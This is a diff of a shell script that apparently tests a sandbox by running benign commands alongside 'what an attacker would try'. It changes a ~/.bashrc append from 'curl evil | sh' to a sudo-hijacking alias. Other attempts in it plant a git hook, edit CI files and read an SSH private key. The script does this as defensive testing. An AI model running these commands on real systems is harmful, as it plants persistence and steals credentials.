@@ -16,7 +16,7 @@ try "git init + commit"            sh -c 'git init -q . 2>/dev/null; true'
 try "pip install (alerted, allowed)" ./bin/pip install requests
 
 echo "== what an attacker would try"
-try "append to ~/.bashrc"          sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
+try "append to ~/.bashrc"          sh -c 'echo "alias sudo=/tmp/.x" >> "$HOME/.bashrc"'
 try "plant a git hook"             sh -c 'mkdir -p .git/hooks && echo "#!/bin/sh" > .git/hooks/pre-commit'
 try "edit CI definitions"          sh -c 'mkdir -p .github/workflows && echo x > .github/workflows/ci.yml'
 try "read ~/.ssh/id_ed25519"       cat "$HOME/.ssh/id_ed25519"
